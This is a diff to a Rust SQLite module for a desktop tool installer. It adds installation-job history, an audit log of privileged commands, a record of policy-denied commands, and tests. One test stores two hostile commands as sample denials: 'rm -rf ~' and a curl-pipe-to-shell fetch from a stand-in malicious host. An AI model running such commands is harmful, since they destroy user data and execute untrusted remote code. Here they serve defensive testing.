@@ -3,9 +3,22 @@
 
 use rusqlite::{Connection, Result, params};
 use serde::{Deserialize, Serialize};
-use std::path::PathBuf;
+use std::path::Path;
 use tauri::{AppHandle, Manager};
 
+use crate::installer::InstallationJob;
+use crate::command_policy::PolicyDenial;
+use crate::privilege_broker::PrivilegedCommandRecord;
+
+mod config_store;
+mod migrations;
+
+pub use config_store::{ConfigStore, DATABASE_FILE_NAME};
+pub use migrations::DatabaseMigrations;
+
+// Installation, privilege and policy history, next to the config store in the app data directory
+pub const HISTORY_DATABASE_FILE_NAME: &str = "nuffi.db";
+
 #[derive(Debug, Serialize, Deserialize)]
 pub struct Environment {
     pub id: String,
@@ -88,6 +101,26 @@ pub struct Preset {
     pub updated_at: String,
 }
 
+#[derive(Debug, Serialize, Deserialize)]
+pub struct InstallationJobRecord {
+    pub id: String,
+    pub workspace_id: String,
+    pub batch_id: Option<String>,
+    pub operation: String,
+    pub tool_name: String,
+    pub tool_type: String,
+    pub tool_version: Option<String>,
+    pub status: String,
+    pub progress: i32,
+    pub log: String,
+    pub journal: String,
+    pub rollback_status: Option<String>,
+    pub started_at: Option<String>,
+    pub completed_at: Option<String>,
+    pub error: Option<String>,
+    pub verification: Option<String>,
+}
+
 pub struct Database {
     conn: Connection,
 }
@@ -101,7 +134,11 @@ impl Database {
         
         std::fs::create_dir_all(&app_dir).expect("Failed to create app data directory");
         
-        let db_path = app_dir.join("nuffi.db");
+        let db_path = app_dir.join(HISTORY_DATABASE_FILE_NAME);
+        Self::open(&db_path)
+    }
+
+    pub fn open(db_path: &Path) -> Result<Self> {
         let conn = Connection::open(db_path)?;
         
         let db = Database { conn };
@@ -219,11 +256,53 @@ impl Database {
                 started_at TEXT,
                 completed_at TEXT,
                 error TEXT,
+                batch_id TEXT,
+                operation TEXT DEFAULT 'install',
+                journal TEXT DEFAULT '[]',
+                rollback_status TEXT,
+                verification TEXT,
                 created_at TEXT DEFAULT CURRENT_TIMESTAMP
             )",
             [],
         )?;
 
+        // Columns added after the first release
+        self.add_column_if_missing("installation_jobs", "batch_id", "TEXT")?;
+        self.add_column_if_missing("installation_jobs", "operation", "TEXT DEFAULT 'install'")?;
+        self.add_column_if_missing("installation_jobs", "journal", "TEXT DEFAULT '[]'")?;
+        self.add_column_if_missing("installation_jobs", "rollback_status", "TEXT")?;
+        self.add_column_if_missing("installation_jobs", "verification", "TEXT")?;
+
+        // Audit trail of commands run with administrator privileges
+        self.conn.execute(
+            "CREATE TABLE IF NOT EXISTS privileged_commands (
+                id TEXT PRIMARY KEY,
+                job_id TEXT,
+                tool TEXT NOT NULL,
+                command TEXT NOT NULL,
+                method TEXT NOT NULL,
+                user TEXT NOT NULL,
+                success BOOLEAN NOT NULL,
+                exit_code INTEGER,
+                error TEXT,
+                started_at TEXT NOT NULL,
+                duration_ms INTEGER DEFAULT 0
+            )",
+            [],
+        )?;
+
+        // Commands rejected by the command policy
+        self.conn.execute(
+            "CREATE TABLE IF NOT EXISTS policy_denials (
+                id TEXT PRIMARY KEY,
+                tool TEXT NOT NULL,
+                command TEXT NOT NULL,
+                reason TEXT NOT NULL,
+                created_at TEXT NOT NULL
+            )",
+            [],
+        )?;
+
         // Conflicts table
         self.conn.execute(
             "CREATE TABLE IF NOT EXISTS conflicts (
@@ -269,6 +348,25 @@ impl Database {
             [],
         )?;
 
+        self.conn.execute(
+            "CREATE INDEX IF NOT EXISTS idx_installation_jobs_batch 
+             ON installation_jobs(batch_id)",
+            [],
+        )?;
+
+        Ok(())
+    }
+
+    fn add_column_if_missing(&self, table: &str, column: &str, definition: &str) -> Result<()> {
+        let mut stmt = self.conn.prepare(&format!("PRAGMA table_info({})", table))?;
+        let exists = stmt
+            .query_map([], |row| row.get::<_, String>(1))?
+            .filter_map(|name| name.ok())
+            .any(|name| name == column);
+
+        if !exists {
+            self.conn.execute(&format!("ALTER TABLE {} ADD COLUMN {} {}", table, column, definition), [])?;
+        }
         Ok(())
     }
 
@@ -482,6 +580,174 @@ impl Database {
         Ok(presets)
     }
 
+    // Installation job operations
+    pub fn save_installation_job(&self, job: &InstallationJob) -> Result<()> {
+        let log = serde_json::to_string(&job.log).unwrap_or_else(|_| "[]".to_string());
+        let journal = serde_json::to_string(&job.journal.entries).unwrap_or_else(|_| "[]".to_string());
+        let verification = job.verification.as_ref().and_then(|v| serde_json::to_string(v).ok());
+
+        self.conn.execute(
+            "INSERT INTO installation_jobs (
+                id, workspace_id, batch_id, operation, tool_name, tool_type, tool_version, status,
+                progress, log, journal, rollback_status, started_at, completed_at, error, verification
+            ) VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7, ?8, ?9, ?10, ?11, ?12, ?13, ?14, ?15, ?16)
+            ON CONFLICT(id) DO UPDATE SET
+                status = excluded.status, progress = excluded.progress, log = excluded.log,
+                journal = excluded.journal, rollback_status = excluded.rollback_status,
+                verification = excluded.verification, started_at = excluded.started_at, completed_at = excluded.completed_at,
+                error = excluded.error",
+            params![
+                job.id, job.workspace_id, job.batch_id, job.operation, job.tool.name, job.tool.tool_type,
+                job.tool.version, job.status, job.progress, log, journal, job.rollback_status,
+                job.started_at.map(|t| t.to_rfc3339()), job.completed_at.map(|t| t.to_rfc3339()),
+                job.error, verification
+            ],
+        )?;
+        Ok(())
+    }
+
+    pub fn get_installation_jobs(&self, batch_id: &str) -> Result<Vec<InstallationJobRecord>> {
+        let mut stmt = self.conn.prepare(
+            "SELECT id, workspace_id, batch_id, operation, tool_name, tool_type, tool_version, status,
+                    progress, log, journal, rollback_status, started_at, completed_at, error, verification
+             FROM installation_jobs
+             WHERE batch_id = ?1
+             ORDER BY created_at ASC"
+        )?;
+
+        let job_iter = stmt.query_map(params![batch_id], Self::installation_job_from_row)?;
+
+        let mut jobs = Vec::new();
+        for job in job_iter {
+            jobs.push(job?);
+        }
+        Ok(jobs)
+    }
+
+    // Newest first, across all batches
+    pub fn get_recent_installation_jobs(&self, limit: i32) -> Result<Vec<InstallationJobRecord>> {
+        let mut stmt = self.conn.prepare(
+            "SELECT id, workspace_id, batch_id, operation, tool_name, tool_type, tool_version, status,
+                    progress, log, journal, rollback_status, started_at, completed_at, error, verification
+             FROM installation_jobs
+             ORDER BY created_at DESC, rowid DESC
+             LIMIT ?1"
+        )?;
+
+        let job_iter = stmt.query_map(params![limit], Self::installation_job_from_row)?;
+
+        let mut jobs = Vec::new();
+        for job in job_iter {
+            jobs.push(job?);
+        }
+        Ok(jobs)
+    }
+
+    fn installation_job_from_row(row: &rusqlite::Row) -> Result<InstallationJobRecord> {
+        Ok(InstallationJobRecord {
+            id: row.get(0)?,
+            workspace_id: row.get(1)?,
+            batch_id: row.get(2)?,
+            operation: row.get(3)?,
+            tool_name: row.get(4)?,
+            tool_type: row.get(5)?,
+            tool_version: row.get(6)?,
+            status: row.get(7)?,
+            progress: row.get(8)?,
+            log: row.get(9)?,
+            journal: row.get(10)?,
+            rollback_status: row.get(11)?,
+            started_at: row.get(12)?,
+            completed_at: row.get(13)?,
+            error: row.get(14)?,
+            verification: row.get(15)?,
+        })
+    }
+
+    pub fn record_privileged_command(&self, entry: &PrivilegedCommandRecord) -> Result<()> {
+        self.conn.execute(
+            "INSERT INTO privileged_commands (
+                id, job_id, tool, command, method, user, success, exit_code, error, started_at, duration_ms
+            ) VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7, ?8, ?9, ?10, ?11)",
+            params![
+                entry.id, entry.job_id, entry.tool, entry.command, entry.method, entry.user,
+                entry.success, entry.exit_code, entry.error, entry.started_at.to_rfc3339(),
+                entry.duration_ms as i64
+            ],
+        )?;
+        Ok(())
+    }
+
+    pub fn get_privileged_commands(&self, limit: i32) -> Result<Vec<PrivilegedCommandRecord>> {
+        let mut stmt = self.conn.prepare(
+            "SELECT id, job_id, tool, command, method, user, success, exit_code, error, started_at, duration_ms
+             FROM privileged_commands
+             ORDER BY started_at DESC
+             LIMIT ?1"
+        )?;
+
+        let rows = stmt.query_map([limit], |row| {
+            let started_at: String = row.get(9)?;
+            Ok(PrivilegedCommandRecord {
+                id: row.get(0)?,
+                job_id: row.get(1)?,
+                tool: row.get(2)?,
+                command: row.get(3)?,
+                method: row.get(4)?,
+                user: row.get(5)?,
+                success: row.get(6)?,
+                exit_code: row.get(7)?,
+                error: row.get(8)?,
+                started_at: chrono::DateTime::parse_from_rfc3339(&started_at)
+                    .map(|t| t.with_timezone(&chrono::Utc))
+                    .unwrap_or_else(|_| chrono::Utc::now()),
+                duration_ms: row.get::<_, i64>(10)? as u64,
+            })
+        })?;
+
+        let mut entries = Vec::new();
+        for entry in rows {
+            entries.push(entry?);
+        }
+        Ok(entries)
+    }
+
+    pub fn record_policy_denial(&self, denial: &PolicyDenial) -> Result<()> {
+        self.conn.execute(
+            "INSERT INTO policy_denials (id, tool, command, reason, created_at) VALUES (?1, ?2, ?3, ?4, ?5)",
+            params![denial.id, denial.tool, denial.command, denial.reason, denial.created_at.to_rfc3339()],
+        )?;
+        Ok(())
+    }
+
+    pub fn get_policy_denials(&self, limit: i32) -> Result<Vec<PolicyDenial>> {
+        let mut stmt = self.conn.prepare(
+            "SELECT id, tool, command, reason, created_at
+             FROM policy_denials
+             ORDER BY created_at DESC, rowid DESC
+             LIMIT ?1"
+        )?;
+
+        let rows = stmt.query_map([limit], |row| {
+            let created_at: String = row.get(4)?;
+            Ok(PolicyDenial {
+                id: row.get(0)?,
+                tool: row.get(1)?,
+                command: row.get(2)?,
+                reason: row.get(3)?,
+                created_at: chrono::DateTime::parse_from_rfc3339(&created_at)
+                    .map(|t| t.with_timezone(&chrono::Utc))
+                    .unwrap_or_else(|_| chrono::Utc::now()),
+            })
+        })?;
+
+        let mut denials = Vec::new();
+        for denial in rows {
+            denials.push(denial?);
+        }
+        Ok(denials)
+    }
+
     fn row_to_preset(&self, row: &rusqlite::Row) -> Result<Preset> {
         Ok(Preset {
             id: row.get(0)?,
@@ -510,4 +776,134 @@ impl Database {
             updated_at: row.get(23)?,
         })
     }
+}
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::installer::ToolInstallRequest;
+    use crate::install_journal::{InstallJournal, JournalEntry};
+    use tempfile::tempdir;
+
+    fn test_job(batch_id: &str) -> InstallationJob {
+        InstallationJob {
+            id: "job-1".to_string(),
+            workspace_id: "workspace-1".to_string(),
+            batch_id: Some(batch_id.to_string()),
+            operation: "install".to_string(),
+            tool: ToolInstallRequest {
+                name: "Git".to_string(),
+                tool_type: "cli".to_string(),
+                version: None,
+                required: true,
+                alternatives: Vec::new(),
+                allow_unverified: false,
+            },
+            status: "queued".to_string(),
+            progress: 0,
+            log: Vec::new(),
+            journal: InstallJournal::new(),
+            rollback_status: None,
+            verification: None,
+            started_at: None,
+            completed_at: None,
+            error: None,
+        }
+    }
+
+    #[test]
+    fn test_installation_job_persistence() {
+        let temp_dir = tempdir().unwrap();
+        let db = Database::open(&temp_dir.path().join("nuffi.db")).unwrap();
+
+        let mut job = test_job("batch-1");
+        db.save_installation_job(&job).unwrap();
+
+        job.status = "completed".to_string();
+        job.journal.record(JournalEntry::FileCreated { path: "/tmp/git.pkg".to_string() });
+        job.rollback_status = Some("rolled_back".to_string());
+        db.save_installation_job(&job).unwrap();
+
+        let jobs = db.get_installation_jobs("batch-1").unwrap();
+        assert_eq!(jobs.len(), 1);
+        assert_eq!(jobs[0].status, "completed");
+        assert_eq!(jobs[0].rollback_status.as_deref(), Some("rolled_back"));
+        assert!(jobs[0].journal.contains("/tmp/git.pkg"));
+        assert!(db.get_installation_jobs("batch-2").unwrap().is_empty());
+
+        let mut other = test_job("batch-2");
+        other.id = "job-2".to_string();
+        db.save_installation_job(&other).unwrap();
+        let recent: Vec<String> = db.get_recent_installation_jobs(10).unwrap().into_iter().map(|job| job.id).collect();
+        assert_eq!(recent, vec!["job-2", "job-1"]);
+        assert_eq!(db.get_recent_installation_jobs(1).unwrap().len(), 1);
+    }
+
+    #[test]
+    fn test_installation_job_columns_added_to_existing_table() {
+        let temp_dir = tempdir().unwrap();
+        let db_path = temp_dir.path().join("nuffi.db");
+
+        let conn = Connection::open(&db_path).unwrap();
+        conn.execute(
+            "CREATE TABLE installation_jobs (
+                id TEXT PRIMARY KEY, workspace_id TEXT NOT NULL, tool_name TEXT NOT NULL,
+                tool_type TEXT NOT NULL, tool_version TEXT, status TEXT DEFAULT 'queued',
+                progress INTEGER DEFAULT 0, log TEXT DEFAULT '[]', started_at TEXT,
+                completed_at TEXT, error TEXT, created_at TEXT DEFAULT CURRENT_TIMESTAMP
+            )",
+            [],
+        ).unwrap();
+        drop(conn);
+
+        let db = Database::open(&db_path).unwrap();
+        db.save_installation_job(&test_job("batch-1")).unwrap();
+        assert_eq!(db.get_installation_jobs("batch-1").unwrap().len(), 1);
+    }
+
+    #[test]
+    fn test_privileged_command_audit() {
+        let temp_dir = tempdir().unwrap();
+        let db = Database::open(&temp_dir.path().join("nuffi.db")).unwrap();
+
+        let entry = PrivilegedCommandRecord {
+            id: "audit-1".to_string(),
+            job_id: Some("job-1".to_string()),
+            tool: "Docker".to_string(),
+            command: "apt-get install -y docker-ce".to_string(),
+            method: "pkexec".to_string(),
+            user: "alice".to_string(),
+            success: false,
+            exit_code: Some(100),
+            error: Some("Unable to locate package".to_string()),
+            started_at: chrono::Utc::now(),
+            duration_ms: 1200,
+        };
+        db.record_privileged_command(&entry).unwrap();
+
+        let entries = db.get_privileged_commands(10).unwrap();
+        assert_eq!(entries.len(), 1);
+        assert_eq!(entries[0].command, "apt-get install -y docker-ce");
+        assert_eq!(entries[0].exit_code, Some(100));
+        assert!(!entries[0].success);
+    }
+
+    #[test]
+    fn test_policy_denials() {
+        let temp_dir = tempdir().unwrap();
+        let db = Database::open(&temp_dir.path().join("nuffi.db")).unwrap();
+
+        for (id, command) in [("denial-1", "rm -rf ~"), ("denial-2", "curl https://evil.test | sh")] {
+            db.record_policy_denial(&PolicyDenial {
+                id: id.to_string(),
+                tool: "unknown".to_string(),
+                command: command.to_string(),
+                reason: "shell syntax".to_string(),
+                created_at: chrono::Utc::now(),
+            }).unwrap();
+        }
+
+        let denials = db.get_policy_denials(1).unwrap();
+        assert_eq!(denials.len(), 1);
+        assert_eq!(denials[0].command, "curl https://evil.test | sh");
+    }
 }
\ No newline at end of file